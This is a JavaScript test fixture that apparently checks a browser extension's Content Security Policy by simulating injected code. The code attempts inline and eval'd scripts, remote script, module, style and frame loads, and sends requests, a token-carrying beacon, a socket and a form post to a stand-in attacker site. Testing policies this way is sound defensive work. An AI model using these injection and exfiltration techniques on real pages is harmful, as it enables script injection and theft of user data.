/** Code that got into a page of the extension, and tries to bring in more, or to tell somebody outside. */
globalThis.intruder = {
  /** What ran that must not. */
  ran: [],
  /** Each refusal by the page's policy: its directive, and what was refused. */
  refused: [],

  /** Tries everything; the refusals come in later. `site` is the attacker's. */
  async try(site) {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      const address = blockedURI.replace(site, '').replace(site.replace('http', 'ws'), '');
      // Chromium and Firefox name parts of a directive, and the address of a frame, each in their way.
      const directive = effectiveDirective.replace(/-(elem|attr)$/, '');
      const isFrame = directive === 'frame-src' || directive === 'object-src';
      intruder.refused.push(isFrame ? directive : `${directive} ${address}`);
    });
    // Out of the debugger's call, within which Chromium allows what it refuses to every page.
    await new Promise((resolve) => {
      setTimeout(resolve);
    });
    for (const attempt of Object.values(attempts)) {
      try {
        await attempt(site);
      } catch {
        // Refused on the spot, which the policy reports all the same.
      }
    }
  },
};
globalThis.ran = (what) => intruder.ran.push(what);

const add = (tag, properties, parent = document.body) =>
  parent.appendChild(Object.assign(document.createElement(tag), properties));

const attempts = {
  inlineScript: () => add('script', { textContent: 'ran("inline")' }),
  inlineHandler: () => {
    const button = add('button', {});
    button.setAttribute('onclick', 'ran("handler")');
    button.click();
  },
  scriptAddress: () => add('a', { href: 'javascript:ran("address")' }).click(),
  evaluation: () => (0, eval)('ran("eval")'),
  construction: () => new Function('ran("function")')(),
  lateText: () => setTimeout('ran("timeout")'),
  remoteScript: (site) => add('script', { src: `${site}/script` }),
  dataScript: () => add('script', { src: 'data:text/javascript,ran("data")' }),
  blobScript: () => add('script', { src: URL.createObjectURL(new Blob(['ran("blob")'])) }),
  remoteModule: (site) => void import(`${site}/module`).catch(() => undefined),
  inlineStyle: () => add('style', { textContent: 'body { --stolen: 1 }' }),
  remoteStyle: (site) => add('link', { rel: 'stylesheet', href: `${site}/style` }, document.head),
  remoteImage: (site) => add('img', { src: `${site}/image`, alt: '' }),
  remoteFont: (site) => void new FontFace('f', `url(${site}/font)`).load().catch(() => undefined),
  remoteSound: (site) => add('audio', { src: `${site}/sound` }),
  remoteFrame: (site) => add('iframe', { src: `${site}/frame` }),
  remoteObject: (site) => add('object', { data: `${site}/object`, type: 'text/html' }),
  request: (site) => void fetch(`${site}/fetch`).catch(() => undefined),
  oldRequest: (site) => {
    const request = new XMLHttpRequest();
    request.open('GET', `${site}/xhr`);
    request.send();
  },
  beacon: (site) => navigator.sendBeacon(`${site}/beacon`, 'token'),
  socket: (site) => new WebSocket(`${site.replace('http', 'ws')}/socket`),
  events: (site) => new EventSource(`${site}/events`),
  form: (site) => add('form', { action: `${site}/form`, method: 'post' }).submit(),
  base: (site) => add('base', { href: `${site}/base/` }, document.head),
};
